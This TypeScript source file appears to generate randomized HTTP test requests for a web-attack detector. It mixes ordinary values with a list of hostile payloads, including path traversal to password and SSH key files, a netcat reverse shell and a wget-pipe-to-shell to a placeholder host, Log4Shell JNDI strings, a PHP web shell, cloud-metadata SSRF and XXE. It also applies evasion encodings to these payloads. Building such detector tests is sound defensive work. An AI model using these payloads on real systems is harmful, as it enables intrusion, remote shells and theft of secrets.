import { ordinaryValues } from '../../detect/testing/ordinary-values.ts'
import { scriptAttacks } from '../../detect/testing/script-attacks.ts'
import { sqlAttacks } from '../../detect/testing/sql-attacks.ts'
import type { Random } from './outcomes.ts'
import type { TestRequest } from './requests.ts'

/** Reproducible requests: ordinary and hostile values, disguised and damaged, at all positions of values. */

type HeaderLine = readonly [name: string, value: string]

/** Attacks other than SQL and script: paths, commands, code, templates, protocols. Byte strings. */
const otherAttacks: readonly string[] = [
  '../../../../etc/passwd',
  '..\\..\\windows\\win.ini',
  '/etc/shadow%00.png',
  '....//....//.ssh/id_rsa',
  'WEB-INF/web.xml',
  '.git/config',
  'http://198.51.100.7/shell.txt?',
  'file:///etc/hosts',
  'php://filter/convert.base64-encode/resource=index.php',
  'http://169.254.169.254/latest/meta-data/',
  ';cat /etc/passwd',
  '| nc -e /bin/sh 198.51.100.7 4444',
  '$(wget http://198.51.100.7/a.sh -O- | sh)',
  '`id`',
  '&& powershell -enc SQBFAFgA',
  'cmd.exe /c dir',
  '() { :;}; echo vulnerable',
  "u\\name -a; w'h'oami",
  '<?php system($_GET["c"]); ?>',
  'phpinfo();',
  'O:8:"stdClass":1:{s:1:"a";i:1;}',
  '$_SERVER["DOCUMENT_ROOT"]',
  'base64_decode(strrev("x"))',
  '${jndi:ldap://198.51.100.7/a}',
  '${${lower:j}ndi:rmi://x}',
  'java.lang.Runtime.getRuntime().exec("id")',
  'rO0ABXNyABFqYXZhLnV0aWwuSGFzaE1hcA',
  '#{T(java.lang.Runtime)}',
  'class.module.classLoader',
  '{{7*7}}',
  '<%= 7*7 %>',
  '{{constructor.constructor("alert(1)")()}}',
  'require("child_process").exec("id")',
  'process.mainModule.require',
  '__proto__[x]=1',
  '{"$ne":null}',
  'eval(String.fromCharCode(97))',
  'x\r\nSet-Cookie: a=b',
  'x\r\n\r\n<html>',
  'GET /admin HTTP/1.1',
  '*)(uid=*))(|(uid=*',
  '<!--#exec cmd="id"-->',
  'jsessionid=0123456789ABCDEF',
  'perl -e system("id")',
  '/bin/c?t /e??/p?sswd',
  'c$@at',
  '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>',
]

const attacks = [...sqlAttacks, ...scriptAttacks, ...otherAttacks]

const ordinary: readonly string[] = [
  ...ordinaryValues,
  '',
  '1',
  '0',
  'true',
  'page2',
  '2026-05-17T10:30:00Z',
  'a@b.example',
  '550e8400-e29b-41d4-a716-446655440000',
  'GA1.2.1234567890.1700000000',
  'dGhlIHF1aWNrIGJyb3duIGZveA==',
  'caf\xc3\xa9',
  'The quick brown fox jumps over the lazy dog',
]

const agents: readonly string[] = [
  'Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/140.0.0.0 Safari/537.36',
  'curl/8.9.1',
  'sqlmap/1.8',
  'Nikto/2.5',
  'python-requests/2.32',
  '',
]

const names = 'q id page sort name email password sess token file path url cmd x data redirect a b'.split(' ')

export function pick<Item>(items: readonly Item[], random: Random): Item {
  return items[random(items.length)]!
}

/** Ordinary two times in three; else hostile, sometimes disguised or damaged. */
export function randomValue(random: Random): string {
  if (random(3) > 0) return pick(ordinary, random)
  let value = pick(attacks, random)
  for (let times = random(3); times > 0; times--) value = pick(changes, random)(value, random)
  return value
}

type Change = (value: string, random: Random) => string

/** The value with some of its bytes encoded. */
function bytewise(write: (byte: string, code: number) => string, oneIn: number): Change {
  return (value, random) =>
    Array.from(value, byte => (random(oneIn) === 0 ? write(byte, byte.charCodeAt(0)) : byte)).join('')
}

const hex = (code: number, digits = 2): string => code.toString(16).padStart(digits, '0')

const changes: readonly Change[] = [
  bytewise(byte => (byte === byte.toLowerCase() ? byte.toUpperCase() : byte.toLowerCase()), 2),
  bytewise((_, code) => `%${hex(code)}`, 2),
  bytewise((_, code) => `%u00${hex(code)}`, 3),
  bytewise((_, code) => `&#${code};`, 3),
  bytewise((_, code) => `&#x${hex(code)};`, 4),
  bytewise((_, code) => `\\x${hex(code)}`, 3),
  bytewise((_, code) => `\\u00${hex(code)}`, 3),
  bytewise((_, code) => `\\${hex(code, 6)}`, 4),
  bytewise((byte, code) => (code === 0x20 ? '/**/' : byte), 1),
  bytewise((byte, code) => (code === 0x20 ? '\t' : byte), 1),
  bytewise(byte => `${byte}\0`, 8),
  bytewise(byte => `${byte}'${byte}`, 8),
  bytewise(byte => byte + byte, 12),
  bytewise(() => '', 12),
  value => Buffer.from(value, 'latin1').toString('base64'),
  value => Buffer.from(value, 'latin1').toString('hex'),
  (value, random) => value.slice(random(value.length + 1)),
  (value, random) => value.slice(0, random(value.length + 1)),
  (value, random) => value + pick(attacks, random),
  (value, random) => pick(ordinary, random) + value,
  (value, random) => value + String.fromCharCode(random(256)),
  (value, random) => value.repeat(1 + random(3)),
]

/** As a browser would send it, or not. */
function inUrl(value: string, random: Random): string {
  const keep = random(6) === 0 ? /[^\0-\x20&#]/ : /[\w.~-]/
  return Array.from(value, byte => {
    if (byte === ' ' && random(2) === 0) return '+'
    return keep.test(byte) ? byte : `%${hex(byte.charCodeAt(0)).toUpperCase()}`
  }).join('')
}

function randomName(random: Random): string {
  return random(12) === 0 ? randomValue(random) : pick(names, random)
}

function pairs(random: Random, countMax: number): string {
  return Array.from(
    { length: random(countMax + 1) },
    () => `${inUrl(randomName(random), random)}=${inUrl(randomValue(random), random)}`,
  ).join('&')
}

function randomTarget(random: Random): string {
  const folders = ['', 'shop/', 'api/v1/', 'static/css/', 'a//b/../']
  const files = ['', 'index.html', 'login.php', 'x.bak', 'item;v=1', '.env', 'logo-2x.png']
  const path = `/${pick(folders, random)}${pick(files, random)}${random(8) === 0 ? inUrl(randomValue(random), random) : ''}`
  const query = random(4) === 0 ? '' : `?${pairs(random, 4)}`
  const site = random(20) === 0 ? 'http://www.example.com' : ''
  return site + path + query + (random(30) === 0 ? '#part' : '')
}

function lineOf(value: string): string {
  return value.replace(/[\r\n]/g, ' ')
}

function randomHeaders(random: Random): HeaderLine[] {
  const headers: HeaderLine[] = [['Host', random(10) === 0 ? '192.0.2.7' : 'www.example.com']]
  const cookies = Array.from(
    { length: random(4) },
    () => `${pick(names, random)}=${lineOf(randomValue(random))}`,
  )
  const more: readonly (readonly [oneIn: number, name: string, value: () => string])[] = [
    [1, 'User-Agent', () => pick(agents, random)],
    [2, 'Accept', () => pick(['*/*', 'text/html,application/xml;q=0.9', 'image/webp', 'x'], random)],
    [3, 'Accept-Language', () => 'en-GB,en;q=0.5'],
    [3, 'Accept-Encoding', () => 'gzip, deflate, br'],
    [3, 'Referer', () => `https://www.example.com/?${pairs(random, 2)}`],
    [2, 'Cookie', () => cookies.join('; ')],
    [8, 'Cookie', () => `x=${lineOf(randomValue(random))}`],
    [9, 'X-Forwarded-For', () => lineOf(randomValue(random))],
    [9, 'Range', () => 'bytes=0-1,1-2,2-3,3-4,4-5,5-6'],
    [9, 'Connection', () => pick(['keep-alive', 'close, close'], random)],
    [9, 'Authorization', () => 'Basic YTpi'],
    [9, 'Content-Encoding', () => 'gzip'],
    [9, `X-${pick(names, random)}`, () => lineOf(randomValue(random))],
    [20, 'Transfer-Encoding', () => 'chunked'],
    [20, 'Proxy', () => 'http://198.51.100.7'],
  ]
  for (const [oneIn, name, value] of more) if (random(oneIn) === 0) headers.push([name, value()])
  return headers
}

function jsonValue(random: Random, depth: number): unknown {
  const kind = random(depth > 3 ? 3 : 5)
  if (kind === 0) return random(1000)
  if (kind < 3) return randomValue(random)
  const length = random(4)
  if (kind === 3) return Array.from({ length }, () => jsonValue(random, depth + 1))
  return Object.fromEntries(Array.from({ length }, () => [randomName(random), jsonValue(random, depth + 1)]))
}

function multipart(random: Random): string {
  const part = (): string => {
    const file = random(3) === 0 ? `; filename="${lineOf(randomValue(random)).replaceAll('"', '')}"` : ''
    const type = random(3) === 0 ? '\r\nContent-Type: text/plain' : ''
    const eol = random(20) === 0 ? '\n' : '\r\n'
    return `--bound${eol}Content-Disposition: form-data; name="${randomName(random).replace(/["\r\n]/g, '')}"${file}${type}\r\n\r\n${randomValue(random)}\r\n`
  }
  return `${Array.from({ length: 1 + random(3) }, part).join('')}--bound--\r\n`
}

function xml(random: Random): string {
  const text = (value: string): string => value.replaceAll('&', '&amp;').replaceAll('<', '&lt;')
  const element = (): string =>
    `<item id="${text(randomValue(random)).replaceAll('"', '&quot;')}">${text(randomValue(random))}</item>`
  return `<?xml version="1.0"?><order>${Array.from({ length: random(4) }, element).join('')}</order>`
}

const bodies: readonly (readonly [type: string, make: (random: Random) => string])[] = [
  ['application/x-www-form-urlencoded', random => pairs(random, 5)],
  ['application/json', random => JSON.stringify(jsonValue(random, 0))],
  ['multipart/form-data; boundary=bound', multipart],
  ['text/xml', xml],
  ['application/soap+xml; charset=utf-8', xml],
  ['text/plain', randomValue],
]

const answers: readonly string[] = [
  '<html><title>Shop</title><p>An ordinary page.</p></html>',
  'You have an error in your SQL syntax; check the manual',
  'Fatal error: Uncaught exception in /var/www/index.php on line 3',
  '<title>Index of /backup</title>',
  'java.lang.NullPointerException at com.example.Main',
  '<?php echo 1; ?>',
  '',
]

/** Any request: most could come from a browser, some could not. */
export function randomRequest(random: Random): TestRequest {
  const headers = randomHeaders(random)
  const hasBody = random(2) === 0
  let body = ''
  if (hasBody) {
    const [type] = pick(bodies, random)
    const [, make] = random(12) === 0 ? pick(bodies, random) : bodies.find(([name]) => name === type)!
    body = Buffer.from(make(random), 'latin1').toString('latin1')
    if (random(15) === 0) body = pick(changes, random)(body, random)
    headers.push(['Content-Type', type], ['Content-Length', String(body.length)])
  }
  const odd = ['HEAD', 'PUT', 'DELETE', 'TRACE', 'PROPFIND', 'get']
  return {
    method: random(12) === 0 ? pick(odd, random) : hasBody ? 'POST' : 'GET',
    target: randomTarget(random),
    protocol: random(15) === 0 ? pick(['HTTP/1.0', 'HTTP/2.0', 'HTTP/0.9', ''], random) : 'HTTP/1.1',
    headers,
    body,
    complete: random(20) > 0,
    response: {
      status: pick([200, 200, 404, 500], random),
      headers: [
        ['Content-Type', pick(['text/html; charset=utf-8', 'application/json', 'image/png'], random)],
      ],
      body: pick(answers, random) + (random(4) === 0 ? randomValue(random) : ''),
    },
  }
}
